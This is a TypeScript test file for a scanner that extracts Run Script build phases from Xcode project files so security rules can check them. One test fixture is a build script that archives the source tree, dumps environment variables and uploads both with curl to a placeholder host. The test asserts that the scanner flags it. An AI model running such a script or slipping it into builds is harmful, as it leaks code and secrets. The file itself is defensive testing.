import { pbxprojScriptSegments } from './pbxproj-scripts.analyzer.js';
import { findingsOf } from '../rules/rule-cases.helper.js';

const phase = (script: string, shellPath = '/bin/sh') =>
  [
    '/* Begin PBXShellScriptBuildPhase section */',
    '\t\tA1 /* Run Script */ = {',
    '\t\t\tisa = PBXShellScriptBuildPhase;',
    `\t\t\tshellPath = ${shellPath};`,
    `\t\t\tshellScript = "${script}";`,
    '\t\t};',
    '/* End PBXShellScriptBuildPhase section */',
  ].join('\n');

describe('pbxprojScriptSegments', () => {
  it('should read a Run Script phase as its real lines, at the shellScript line', () => {
    const text = phase('if [ \\"$CONFIGURATION\\" = Release ]; then\\n  echo \\"ok\\"\\nfi\\n');
    const [seg] = pbxprojScriptSegments([{ path: 'App.xcodeproj/project.pbxproj', text }]);
    expect(seg.lang).toBe('shell');
    expect(seg.kind).toBe('code');
    expect(seg.line).toBe(5);
    expect(seg.text.split('\n')).toEqual([
      'if [ "$CONFIGURATION" = Release ]; then',
      '  echo "ok"',
      'fi',
      '',
    ]);
  });

  it('should read a fragment under another name, the interpreter from shellPath, and skip markdown', () => {
    const text = phase('import os\\nprint(os.environ)\\n', '/usr/bin/python3');
    expect(pbxprojScriptSegments([{ path: 'assets/phase.txt', text }])[0].lang).toBe('python');
    expect(pbxprojScriptSegments([{ path: 'README.md', text }])).toEqual([]);
    expect(pbxprojScriptSegments([{ path: 'notes.txt', text: 'shellScript = "a\\nb";' }])).toEqual([]);
  });

  it('should let the exfiltration rules see an upload of the source tree in a build phase', () => {
    const upload = phase(
      'W=$(mktemp -d)\\ncd \\"${SRCROOT}\\" && tar czf \\"$W/src.tgz\\" .\\nenv > \\"$W/env.txt\\"\\ncurl -s -F \\"src=@$W/src.tgz\\" -F \\"env=@$W/env.txt\\" https://ingest.example.net/v1\\n',
    );
    const lint = phase('if command -v swiftlint >/dev/null; then\\n  swiftlint\\nfi\\n');
    const flagged = (text: string) =>
      findingsOf(text, 'assets/upload.pbxproj-fragment').some(
        (f) => f.severity === 'HIGH' || f.severity === 'CRITICAL',
      );
    expect(flagged(upload)).toBe(true);
    expect(flagged(lint)).toBe(false);
  });

  it('should read a 1 MiB unterminated shellScript quickly', () => {
    const text = `isa = PBXShellScriptBuildPhase;\nshellScript = "${'\\"a'.repeat(512 * 1024)}`;
    const t = Date.now();
    pbxprojScriptSegments([{ path: 'x.pbxproj', text }]);
    expect(Date.now() - t).toBeLessThan(200);
  });
});
